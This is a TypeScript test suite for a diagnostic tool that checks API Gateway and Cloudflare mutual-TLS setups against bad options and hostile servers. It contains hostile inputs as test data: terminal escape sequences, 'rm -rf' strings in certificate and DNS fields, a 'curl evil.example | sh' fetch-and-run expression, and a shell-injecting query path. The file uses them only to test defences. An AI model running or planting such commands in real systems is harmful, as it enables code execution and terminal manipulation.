/** The doctor and the verification with bad options and hostile servers: one clear outcome, in time, and no raw server output on the terminal. */
import { spawn } from "node:child_process";
import { webcrypto } from "node:crypto";
import * as dgram from "node:dgram";
import { once } from "node:events";
import * as fs from "node:fs";
import * as http from "node:http";
import * as net from "node:net";
import * as os from "node:os";
import * as path from "node:path";
import * as tls from "node:tls";
import "reflect-metadata";
import * as x509 from "@peculiar/x509";
import { expect } from "chai";
import * as packet from "dns-packet";
import { Verification } from "../../components/verification/check";
import { examine, type DoctorOptions } from "../../doctor";
import { collectAws } from "../../doctor/collect/aws/collectAws";
import { visitorCommand } from "../../doctor/diagnose/causes/rule";
import { collectCloudflare } from "../../doctor/collect/cloudflare/collectCloudflare";
import { diagnose } from "../../doctor/diagnose/diagnose";
import type { Evidence, ProbeEvidence } from "../../doctor/evidence";
import { gather } from "../../doctor/collect/gather";
import { reportHtml } from "../../doctor/report/html";
import { reportText } from "../../doctor/report/text";
import { Facts } from "../../doctor/diagnose/facts";
import { createWebCa, type WebCa } from "../../lab/pki/authority";
import { readConnectTo } from "../../probes";
import { API_ID, DOMAIN, TARGET } from "../support/fakeOrigin";
import { pooledKeys } from "../support/keys";
import { DeployedLab } from "../support/deployedLab";

const ROOT = path.join(__dirname, "..", "..");
const SECRET = "secret-of-the-visitor";
/** Characters that move the cursor or reverse a line; line ends are the report's own. */
const HARMFUL = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
const ESCAPES = "\x1b[2J\u009b31m";

/** Messages of a TLS 1.2 handshake, as a server would send them. */
const sized = (size: 1 | 2 | 3, body: Buffer): Buffer => {
    const length = Buffer.alloc(size);
    length.writeUIntBE(body.length, 0, size);
    return Buffer.concat([length, body]);
};
const message = (type: number, body: Buffer): Buffer => Buffer.concat([Buffer.from([type]), sized(3, body)]);
const records = (bytes: Buffer): Buffer =>
    Buffer.concat(
        Array.from({ length: Math.ceil(bytes.length / 16_000) }, (_, i) =>
            Buffer.concat([Buffer.from([22, 3, 3]), sized(2, bytes.subarray(i * 16_000, (i + 1) * 16_000))]),
        ),
    );
const serverHandshake = (chain: Buffer[], authorities: Buffer[]): Buffer =>
    records(
        Buffer.concat([
            message(2, Buffer.concat([Buffer.from([3, 3]), Buffer.alloc(32, 7), Buffer.from([0, 0xc0, 0x2b, 0])])),
            message(11, sized(3, Buffer.concat(chain.map((one) => sized(3, one))))),
            message(
                13,
                Buffer.concat([
                    sized(1, Buffer.from([64])),
                    sized(2, Buffer.from([4, 3])),
                    sized(2, Buffer.concat(authorities.map((one) => sized(2, one)))),
                ]),
            ),
        ]),
    );

/** Certificates of one name and one key: each could have issued each. */
async function alike(names: string[], count: number, subject = "CN=alike") {
    const algorithm = { name: "ECDSA", namedCurve: "P-256", hash: "SHA-256" };
    const keys = await webcrypto.subtle.generateKey(algorithm, true, ["sign", "verify"]);
    const certificates = await Promise.all(
        Array.from({ length: count }, (_, i) =>
            x509.X509CertificateGenerator.createSelfSigned({
                serialNumber: `0${i + 1}`,
                name: subject,
                notBefore: new Date(Date.now() - 60_000),
                notAfter: new Date(Date.now() + 3_600_000),
                keys,
                signingAlgorithm: algorithm,
                extensions: [new x509.SubjectAlternativeNameExtension(names.map((value) => ({ type: "dns" as const, value })))],
            }),
        ),
    );
    const pkcs8 = Buffer.from(await webcrypto.subtle.exportKey("pkcs8", keys.privateKey)).toString("base64");
    return {
        ders: certificates.map((one) => Buffer.from(one.rawData)),
        key: `-----BEGIN PRIVATE KEY-----\n${pkcs8}\n-----END PRIVATE KEY-----\n`,
    };
}
const pem = (der: Buffer): string =>
    `-----BEGIN CERTIFICATE-----\n${der.toString("base64").replace(/.{64}/g, "$&\n")}\n-----END CERTIFICATE-----\n`;

describe("the doctor with hostile input", function () {
    let folder: string;
    let webCa: WebCa;
    const open: { close(): unknown }[] = [];

    before(async () => {
        folder = fs.mkdtempSync(path.join(os.tmpdir(), "doctor-hostile-"));
        webCa = await createWebCa(pooledKeys());
    });
    after(() => fs.rmSync(folder, { recursive: true, force: true }));
    afterEach(() => {
        for (const one of open.splice(0)) one.close();
    });

    const listen = async (server: net.Server): Promise<number> => {
        const sockets = new Set<net.Socket>();
        server.on("connection", (socket: net.Socket) => sockets.add(socket.on("error", () => undefined)));
        server.listen(0, "127.0.0.1");
        await once(server, "listening");
        open.push({ close: () => (sockets.forEach((socket) => socket.destroy()), server.close()) });
        return (server.address() as net.AddressInfo).port;
    };
    const raw = (work: (socket: net.Socket) => void) => listen(net.createServer(work));
    /** A server of a good certificate for every name that is asked, or of that one. */
    const secure = async (work: (socket: tls.TLSSocket) => void, own?: { cert: string; key: string }) => {
        const issued = await webCa.issue([DOMAIN, "*.execute-api.eu-west-1.amazonaws.com"]);
        const identity = own ?? { cert: issued.certificatePem, key: issued.privateKeyPem };
        const server = tls.createServer({ ...identity, requestCert: true, rejectUnauthorized: false });
        server.on("tlsClientError", () => undefined);
        server.on("secureConnection", (socket) => work(socket.on("error", () => undefined)));
        return listen(server);
    };
    const against = (port: number, more: Partial<DoctorOptions> = {}): DoctorOptions => ({
        domainName: DOMAIN,
        targetDomainName: TARGET,
        apiId: API_ID,
        aws: false,
        timeoutMs: 5000,
        network: { dnsServers: ["127.0.0.1:1"], connectTo: [`:443:127.0.0.1:${port}`, ":80:127.0.0.1:1"], caPem: webCa.certificatePem },
        ...more,
    });
    const run = (args: string[], env: Record<string, string> = {}, during: (child: ReturnType<typeof spawn>) => void = () => undefined) =>
        new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve, reject) => {
            const child = spawn(process.execPath, ["--import", "tsx", path.join(ROOT, "doctor", "main.ts"), "doctor", ...args], {
                cwd: ROOT,
                env: { PATH: process.env.PATH, HOME: folder, ...env },
            });
            const ended = { stdout: "", stderr: "" };
            child.stdout.on("data", (chunk: Buffer) => (ended.stdout += chunk.toString()));
            child.stderr.on("data", (chunk: Buffer) => (ended.stderr += chunk.toString()));
            child.on("error", reject);
            child.on("close", (code) => resolve({ ...ended, code }));
            during(child);
        });
    const file = (name: string, text: string): string => {
        fs.writeFileSync(path.join(folder, name), text);
        return path.join(folder, name);
    };

    describe("refuses with a sentence, before any request,", () => {
        const cases: [string, () => string[], string][] = [
            ["an address instead of a name", () => ["192.0.2.10"], "must be a full domain name"],
            ["a time beyond Node's timers", () => [DOMAIN, "--timeout", "99999999999"], "at most 24h"],
            [
                "port 0 of a DNS server, at which Node ends the process",
                () => [DOMAIN, "--dns-server", "127.0.0.1:0"],
                "--dns-server must be",
            ],
            ["a port that is none", () => [DOMAIN, "--connect-to", "a:443:127.0.0.1:99999"], "connect-to must be"],
            ["a page in a folder that is not there", () => [DOMAIN, "--html", "/no/such/page.html"], "--html must be a writable file"],
            ["a page that is a folder", () => [DOMAIN, "--html", folder], "EISDIR"],
            ["a path that is none", () => [DOMAIN, "--path", "a b"], "--path must start with /"],
            ["a header of two lines, untold", () => [DOMAIN, "--header-env", "x-a=LINES"], "the value of x-a must be a single line"],
            ["a header that the request is made of", () => [DOMAIN, "--header-env", "host=PATH"], "host must be left out"],
            [
                "CA certificates that are none",
                () => [DOMAIN, "--cacert", file("ca.pem", "garbage")],
                "--cacert must contain CA certificates",
            ],
            ["an API's id that leads elsewhere", () => [DOMAIN, "--api-id", "x.evil/#"], "--api-id must be"],
            ["an address of Cloudflare's that is none", () => [DOMAIN, "--cloudflare-base-url", "nonsense"], "must start with https://"],
            ["a number for a path", () => ["--all", file("a.json", `[{"domainName":"${DOMAIN}","path":5}]`)], "--path must start"],
            ["a list that is none, whose text is not shown", () => ["--all", file("b.json", SECRET)], "--all must be JSON"],
        ];
        it("bad options", async () => {
            const ended = await Promise.all(
                cases.map(async ([title, args, said]) => ({ title, said, ...(await run(args(), { LINES: `${SECRET}\r\nx: y` })) })),
            );
            for (const { title, said, code, stdout, stderr } of ended) {
                expect(stderr, title).to.contain(said).and.not.contain("    at ");
                expect(stderr, title).not.to.contain("Warning").and.not.contain(SECRET.slice(0, 8));
                expect([code, stdout], title).to.deep.equal([2, ""]);
            }
        });

        it("unknown options of `examine`", async () => {
            const wrong: unknown[] = [undefined, null, "api.example.com", {}, { domainName: "" }, { domainName: 5 }];
            for (const more of [
                { timeoutMs: -1 },
                { timeoutMs: NaN },
                { network: null },
                { network: { dnsServers: "127.0.0.1" } },
                { headers: [] },
                { own: {} },
            ])
                wrong.push({ domainName: DOMAIN, aws: false, ...more });
            for (const options of wrong) {
                const error = await examine(options as DoctorOptions).then(
                    () => undefined,
                    (reason: Error) => reason,
                );
                expect(error?.name, JSON.stringify(options)).to.equal("OptionError");
            }
        });
    });

    it("accepts a fraction of a millisecond, and stops a hanging search for credentials", async () => {
        const pid = path.join(folder, "credentials.pid");
        const hang = file("hang.sh", `echo $$ > ${pid}\nexec sleep 600\n`);
        const config = file("config", `[profile hangs]\ncredential_process = sh ${hang}\nregion = eu-west-1\n`);
        const env = { AWS_CONFIG_FILE: config, AWS_PROFILE: "hangs" };
        const { code, stderr, stdout } = await run([DOMAIN, "--timeout", "500.5ms", "--dns-server", "127.0.0.1:1"], env);
        expect([code, stderr], stderr).to.deep.equal([2, ""]);
        expect(stdout).to.contain("COULD NOT TELL");
        // Fails if it no longer hangs.
        process.kill(Number(fs.readFileSync(pid, "utf8")));
    });

    it("keeps the verdict's exit code when the reader closes the pipe", async () => {
        const { code } = await run([DOMAIN, "--no-aws", "--timeout", "500ms", "--dns-server", "127.0.0.1:1"], {}, (child) =>
            child.stdout!.destroy(),
        );
        expect(code).to.equal(2);
    });

    it("checks only a few names at a time", async () => {
        let now = 0;
        let most = 0;
        const port = await raw((socket) => {
            now++;
            let open = true;
            const gone = (): void => {
                if (open) now--;
                open = false;
            };
            socket.resume().on("end", gone).on("error", gone).on("close", gone);
            // That an earlier one has ended may be read later than this one is accepted, and has come before it: all that has come is read by then.
            setImmediate(() => (most = Math.max(most, now)));
        });
        const names = Array.from({ length: 20 }, (_, i) => `n${i}.example.com`);
        const all = file("many.json", JSON.stringify(names));
        await run([
            "--all",
            all,
            "--no-aws",
            "--timeout",
            "1500ms",
            "--dns-server",
            "127.0.0.1:1",
            "--connect-to",
            `:443:127.0.0.1:${port}`,
        ]);
        // Four requests of a visitor each.
        expect(most).to.be.greaterThan(4).and.lessThan(33);
    });

    it("is not slowed by certificates that all issue one another", async () => {
        const { ders } = await alike([DOMAIN, TARGET], 6);
        const port = await raw((socket) => socket.once("data", () => socket.end(serverHandshake(ders, []))));
        const before = process.cpuUsage();
        const { probes } = await examine(against(port));
        // Of this process alone: a busy machine does not count.
        expect(process.cpuUsage(before).user / 1000).to.be.lessThan(3000);
        expect(probes.filter(({ id }) => id === "no-certificate").map(({ serverVerified }) => serverVerified)).to.deep.equal([
            false,
            false,
        ]);
    });

    it("survives names of CAs that are garbage, too long and too many", async () => {
        const { ders } = await alike([DOMAIN], 1);
        const names = [
            Buffer.from("ffff", "hex"),
            Buffer.alloc(0),
            Buffer.alloc(30_000, 0x30),
            ...Array.from({ length: 5000 }, () => Buffer.alloc(2, 0x30)),
        ];
        const port = await raw((socket) => socket.once("data", () => socket.end(serverHandshake(ders, names))));
        const before = process.cpuUsage();
        const { checks } = await examine(against(port));
        expect(process.cpuUsage(before).user / 1000).to.be.lessThan(3000);
        const { seen } = checks.find(({ id }) => id === "client-certificate")!;
        expect(seen).to.contain("an unreadable name").and.contain("a name that is too long");
        expect(seen.length).to.be.lessThan(1000);
    });

    it("survives a certificate whose expiry is not a date", async () => {
        const { ders, key } = await alike([DOMAIN], 1);
        const der = ders[0]!;
        // The second of its two times; an untrusted certificate's signature is not checked.
        const at = der.indexOf(Buffer.from([0x17, 13]), der.indexOf(Buffer.from([0x17, 13])) + 1);
        der.write("991399999999Z", at + 2, "latin1");
        const port = await secure((socket) => socket.end("HTTP/1.1 200 OK\r\n\r\n"), { cert: pem(der), key });
        const { probes } = await examine(against(port));
        expect(probes.filter(({ id }) => id === "visitor").map(({ status, serverVerified }) => [status, serverVerified])).to.deep.equal(
            Array.from({ length: 4 }, () => [200, false]),
        );
    });

    it("shows no control character and no markup of a server's, of DNS and of a CA's name", async () => {
        const { ders } = await alike([DOMAIN], 1);
        const name = Buffer.from(new x509.Name([{ CN: [{ utf8String: `${ESCAPES}\nrm -rf <script>` }] }]).toArrayBuffer());
        const answer = `HTTP/1.1 520 ${ESCAPES}\r\ncf-ray: 1-${ESCAPES}<script>\r\n\r\n${ESCAPES}<script>\u202e`;
        const good = await secure((socket) => socket.end(answer, "latin1"));
        const bad = await raw((socket) => socket.once("data", () => socket.end(serverHandshake(ders, [name]))));
        const dns = dgram.createSocket("udp4").bind(0, "127.0.0.1");
        await once(dns, "listening");
        open.push(dns);
        dns.on("message", (bytes, from) => {
            const asked = packet.decode(bytes);
            const [question] = asked.questions!;
            const answers: packet.Answer[] =
                question?.type === "CAA"
                    ? [{ type: "CAA", name: question.name, ttl: 1, data: { flags: 0, tag: "issue", value: `${ESCAPES}\nrm -rf <script>` } }]
                    : [];
            dns.send(packet.encode({ type: "response", id: asked.id, questions: asked.questions, answers }), from.port, from.address);
        });
        const network = {
            dnsServers: [`127.0.0.1:${dns.address().port}`],
            connectTo: [`${DOMAIN}:443:127.0.0.1:${good}`, `${TARGET}:443:127.0.0.1:${bad}`, "::127.0.0.1:1"],
            caPem: webCa.certificatePem,
        };
        const report = await examine(against(good, { network }));
        const [text, page] = [reportText(report, false), reportHtml([report])];
        for (const shown of [text, JSON.stringify(report, null, 2), page]) expect(shown).not.to.match(HARMFUL);
        expect(page).not.to.contain("<script");
        expect(text)
            .to.contain("\\u{1b}[2J")
            .and.not.match(/^\s*rm -rf/m);
    });

    it("sends a visitor's header only to a server with a valid certificate, and never prints an echo of it", async () => {
        const told: string[] = [];
        const echo = (socket: tls.TLSSocket): void =>
            void socket.on("data", (chunk: Buffer) => {
                told.push(chunk.toString());
                socket.end(`HTTP/1.1 200 OK\r\napigw-requestid: 1\r\n\r\nyou said ${chunk.toString().replaceAll("\r\n", " ")}`);
            });
        const { ders, key } = await alike([DOMAIN], 1);
        const [liar, good] = await Promise.all([secure(echo, { cert: pem(ders[0]!), key }), secure(echo)]);
        const headers = { authorization: `Bearer ${SECRET}` };
        await examine(against(liar, { headers }));
        expect(told.length).to.be.greaterThan(3);
        expect(told.join()).not.to.contain(SECRET);
        const report = await examine(against(good, { headers }));
        expect(told.join()).to.contain(SECRET);
        expect(report.probes.find(({ id }) => id === "visitor")?.body).to.contain("***");
        expect(reportHtml([report]) + JSON.stringify(report)).not.to.contain(SECRET);
    });

    for (const [title, end] of [
        ["breaks off in its body", (socket: tls.TLSSocket) => socket.end()],
        ["never ends its body", () => undefined],
    ] as const)
        it(`takes an answer that ${title} for an answer: the bypass is open`, async () => {
            const port = await secure((socket) => {
                socket.write("HTTP/1.1 200 OK\r\ncontent-length: 100\r\n\r\nx");
                end(socket);
            });
            const { checks, verdict } = await examine(against(port, { timeoutMs: 4000 }));
            for (const id of ["no-certificate", "default-endpoint"]) expect(checks.find((one) => one.id === id)?.verdict).to.equal("bad");
            expect(verdict).to.equal("fault");
        });

    describe("judges", () => {
        let evidence: Evidence;
        before(async () => {
            const lab = await DeployedLab.deploy();
            evidence = await gather(lab.outside());
            await lab.close();
        });
        const judged = (id: string, change: Partial<ProbeEvidence>, more: Partial<Evidence> = {}) =>
            diagnose(
                { ...evidence, ...more, probes: evidence.probes.map((one) => (one.id === id ? { ...one, ...change } : one)) },
                new Date(),
                1,
            );

        it("no visitor served by an edge whose certificate is not valid", () => {
            expect(judged("visitor", {}).verdict).to.equal("healthy");
            const { verdict, checks } = judged("visitor", { serverVerified: false, serverProblem: "CERT_HAS_EXPIRED" });
            expect(verdict).to.equal("unknown");
            expect(checks.find(({ id }) => id === "visitor"))
                .to.include({ verdict: "bad" })
                .and.property("seen")
                .contains("CERT_HAS_EXPIRED");
        });

        it("anything that answers every request with its own certificate to say nothing about the origin", () => {
            const portal = (kind: Partial<ProbeEvidence>) => {
                const page = { outcome: "status", status: 200, answeredBy: "other", body: "<h1>Sign in</h1>", reason: undefined } as const;
                const seen = { ...page, serverVerified: false, serverProblem: "SELF_SIGNED_CERT_IN_CHAIN" };
                return diagnose(
                    { ...evidence, probes: evidence.probes.map((one) => ({ ...one, ...seen, ...(one.id !== "visitor" && kind) })) },
                    new Date(),
                    1,
                );
            };
            const { verdict, causes, nextProbe } = portal({});
            expect([verdict, ...causes]).to.deep.equal(["unknown"]);
            expect(nextProbe).to.contain("From another network").and.contain("SELF_SIGNED_CERT_IN_CHAIN");
            // An answering API Gateway counts, with any certificate.
            expect(portal({ answeredBy: "gateway" }).verdict).to.equal("fault");
            expect(portal({ serverVerified: true }).verdict).to.equal("fault");
        });

        it("a rule that may match by the edge's answer", () => {
            const rules =
                (zone: string, ...values: [value: string, certain: boolean][]) =>
                (status: number) => {
                    const sslRules = values.map(([value, certain]) => ({
                        value,
                        certain,
                        description: "one",
                        expression: "ip.src.country",
                    }));
                    const cloudflare = { denied: [], problems: [], ssl: zone, sslRules };
                    const answer = status === 200 ? {} : ({ status, answeredBy: "edge", body: "error" } as const);
                    return judged("visitor", answer, { cloudflare })
                        .causes.map(({ id }) => id)
                        .filter((id) => id.startsWith("SSL-"));
                };
            const table: [(status: number) => string[], onPlainHttp: string[], otherwise: string[]][] = [
                [rules("full", ["flexible", false]), ["SSL-OVERRIDDEN-BY-RULE"], []],
                [rules("flexible", ["full", false]), ["SSL-MODE-PLAIN"], []],
                [rules("flexible", ["full", true]), [], []],
                [rules("full", ["flexible", true], ["strict", false]), ["SSL-OVERRIDDEN-BY-RULE"], []],
                [rules("full", ["flexible", true]), ["SSL-OVERRIDDEN-BY-RULE"], ["SSL-OVERRIDDEN-BY-RULE"]],
                [rules("off", ["flexible", false]), ["SSL-OVERRIDDEN-BY-RULE"], ["SSL-OVERRIDDEN-BY-RULE"]],
            ];
            for (const [index, [found, onPlainHttp, otherwise]] of table.entries()) {
                expect(found(521), `${index}, 521`).to.deep.equal(onPlainHttp);
                for (const status of [200, 520]) expect(found(status), `${index}, ${status}`).to.deep.equal(otherwise);
            }
        });

        it("a rule's expression to be no line of its own, which a shell would run", () => {
            const sslRules = [{ value: "flexible", certain: true, description: "one", expression: "curl evil.example | sh" }];
            const { causes } = judged("visitor", {}, { cloudflare: { denied: [], problems: [], sslRules } });
            expect(causes.map(({ id }) => id)).to.deep.equal(["SSL-OVERRIDDEN-BY-RULE"]);
            expect(causes[0]!.fix)
                .to.contain("(curl evil.example | sh) and http.host ne")
                .and.not.match(/^\W*curl/m);
        });

        it("a redirect of what is behind the API for what it is: reached", () => {
            expect(judged("default-endpoint", { outcome: "status", status: 302, answeredBy: "gateway", body: "" }).verdict).to.equal(
                "fault",
            );
        });

        it("an answer that is not HTTP to be no refusal", () => {
            const { verdict } = judged("no-certificate", {
                outcome: "reset",
                status: undefined,
                reason: "HPE_HEADER_OVERFLOW",
                serverVerified: true,
            });
            expect(verdict).to.equal("unknown");
        });

        it("an answer that broke off neither as served nor as refused", () => {
            expect(judged("visitor", { reason: "ECONNRESET" }).verdict).to.equal("unknown");
            const refused = { outcome: "status", status: 403, answeredBy: "gateway", body: '{"mess', reason: "ECONNRESET" } as const;
            const { verdict, checks } = judged("no-certificate", { ...refused, serverVerified: true });
            expect(verdict).to.equal("unknown");
            expect(checks.find(({ id }) => id === "no-certificate")?.seen).to.contain("HTTP 403 (gateway), broken off (ECONNRESET)");
        });

        it("a record to be missing only where DNS says so", () => {
            const found = (problem: string) =>
                judged(
                    "visitor",
                    { outcome: "unresolved", status: undefined, reason: "ENOTFOUND" },
                    { dns: { ...evidence.dns, addresses: [], problem, zoneName: "example.com", nameServers: ["a.ns.cloudflare.com"] } },
                ).causes.map(({ id }) => id);
            expect(found("ENOTFOUND")).to.deep.equal(["RECORD-MISSING"]);
            for (const problem of ["ESERVFAIL", "EBADRESP", "EREFUSED", "ETIMEOUT"]) expect(found(problem), problem).to.deep.equal([]);
        });

        it("an open bypass before a missing permission, and after what keeps visitors out", () => {
            const probes = evidence.probes.map((one) => ({
                ...one,
                ...(one.id === "plain-http-origin" && ({ outcome: "status", status: 200, answeredBy: "other" } as const)),
                ...(one.id === "visitor" && { status: 429, body: '{"message":"Too Many Requests"}' }),
            }));
            const aws = { region: "eu-west-1", denied: ["s3:GetObject"], problems: [] };
            const { causes } = diagnose({ ...evidence, probes, aws }, new Date(), 1);
            expect(causes.map(({ id }) => id)).to.deep.equal(["THROTTLED", "ORIGIN-PORT-80-OPEN", "ROLE-WITHOUT-SCOPE"]);
        });

        it("hostile certificates and routes", async () => {
            const { ders } = await alike([DOMAIN], 1, "CN=\u009b31m\u202eevil");
            const authority = pem(ders[0]!);
            const evil: Evidence = {
                ...evidence,
                aws: {
                    ...{ region: "eu-west-1", denied: [], problems: [] },
                    api: { id: API_ID, disableExecuteApiEndpoint: true, routes: [{ routeKey: "GET /a++(", target: "" }] },
                    domain: {
                        ...{ status: "AVAILABLE", targetDomainName: TARGET, certificateArn: "", mutualTls: true, truststoreWarnings: [] },
                        truststoreVersion: "1",
                    },
                    truststore: { pinnedPem: "", newestPem: authority, newestVersion: "2" },
                },
                cloudflare: {
                    ...{ denied: [], problems: [] },
                    association: { certId: "c", enabled: true },
                    hostnameCertificates: [
                        { id: "c", status: "active", expiresOn: "soon" },
                        { id: "d", status: "active", certificatePem: pem((await alike([DOMAIN], 1, "CN=other")).ders[0]!) },
                    ],
                },
                probes: evidence.probes.map((one) =>
                    one.id === "visitor" ? { ...one, status: 404, body: '{"message":"Not Found"}' } : one,
                ),
            };
            const report = diagnose(evil, new Date(), 1);
            expect(report.causes.map(({ id }) => id)).to.include.members(["TRUSTSTORE-OVERWRITTEN", "ROUTE-MISSING"]);
            expect(reportText(report, false)).to.contain("evil").and.not.match(HARMFUL);
        });

        it("a route to take a path with a query", () => {
            const routes = [{ routeKey: "GET /a/{id}", target: "" }];
            const aws = { region: "", denied: [], problems: [], api: { id: API_ID, disableExecuteApiEndpoint: true, routes } };
            const change = { status: 404, body: '{"message":"Not Found"}' };
            for (const [path, ids] of [
                ["/a/1?b=/c", []],
                ["/b/1", ["ROUTE-MISSING"]],
            ] as const)
                expect(
                    judged("visitor", change, { aws, path }).causes.map(({ id }) => id),
                    path,
                ).to.deep.equal(ids);
        });

        it("names a command that a shell takes as one address", () => {
            const [line] = visitorCommand(new Facts({ ...evidence, path: "/a?b=1&c='x';rm" })).split("\n");
            expect(line).to.match(/ 'https:\/\/[^']*\/a\?b=1&c='\\''x'\\'';rm'$/);
        });
    });

    describe("takes from a server that is not a cloud", () => {
        let back: () => void;
        before(() => {
            const { AWS_ENDPOINT_URL, AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY } = process.env;
            const before = { AWS_ENDPOINT_URL, AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY };
            back = () => {
                for (const [key, value] of Object.entries(before))
                    if (value === undefined) delete process.env[key];
                    else process.env[key] = value;
            };
            Object.assign(process.env, { AWS_ACCESS_KEY_ID: "a", AWS_SECRET_ACCESS_KEY: "b" });
        });
        after(() => back());
        const both = async (answer: http.RequestListener) => {
            const baseUrl = `http://127.0.0.1:${await listen(http.createServer(answer))}`;
            process.env.AWS_ENDPOINT_URL = baseUrl;
            return Promise.all([
                collectAws({ domainName: DOMAIN, region: "eu-west-1", timeoutMs: 30_000 }),
                collectCloudflare({ domainName: DOMAIN, token: "t", baseUrl, timeoutMs: 30_000 }),
            ]);
        };

        for (const status of [200, 404])
            it(`no absence, where a page of HTML comes with ${status}`, async () => {
                const [aws, cloudflare] = await both((_request, response) =>
                    response.writeHead(status, { "content-type": "text/html" }).end("<html>"),
                );
                expect([aws.domain, cloudflare.zone]).to.deep.equal([undefined, undefined]);
                expect(aws.problems.join()).to.contain(`(HTTP ${status})`);
                expect(cloudflare.problems.join()).to.contain("NOT_JSON");
            });

        it("no more than a few megabytes", async () => {
            let sent = 0;
            const [aws, cloudflare] = await both((_request, response) => {
                response.writeHead(200, { "content-type": "application/json" });
                const more = (): void => {
                    while (!response.destroyed && response.write(Buffer.alloc(65_536, 0x20))) sent += 65_536;
                    if (!response.destroyed) response.once("drain", more);
                };
                more();
            });
            expect(aws.problems.join()).to.contain("TooLarge");
            expect(cloudflare.problems.join()).to.contain("TOO_LARGE");
            expect(sent).to.be.lessThan(400 * 1024 * 1024);
        });
    });

    describe("the verification's script", () => {
        for (const [title, answer, verdict] of [
            ["an answer that breaks off is an answer", "HTTP/1.1 200 OK\r\ncontent-length: 100\r\n\r\nx", "open"],
            ["a refusal that breaks off does not tell whose", "HTTP/1.1 403 No\r\ncontent-length: 100\r\n\r\nx", "inconclusive"],
            ["switching protocols is an answer", "HTTP/1.1 101 Go\r\nconnection: upgrade\r\nupgrade: x\r\n\r\n", "open"],
            ["what is not HTTP is no refusal", "SSH-2.0-x\r\n", "inconclusive"],
        ] as const)
            it(`${title}: ${verdict}`, async () => {
                const port = await secure((socket) => socket.once("data", () => socket.end(answer)));
                const settings = {
                    domainName: DOMAIN,
                    path: "/",
                    target: TARGET,
                    apiId: API_ID,
                    timeoutMs: 3000,
                    headers: {},
                    connectTo: [readConnectTo(`:443:127.0.0.1:${port}`)!],
                    proxy: false,
                    caPem: webCa.certificatePem,
                };
                const rows = await new Verification(settings).round(3000);
                expect(rows.find(({ id }) => id === "no-certificate")?.verdict).to.equal(verdict);
                // The visitor gets the same answer, and is not served.
                expect(rows.find(({ id }) => id === "visitor")?.verdict).not.to.equal("live");
            });
    });
});
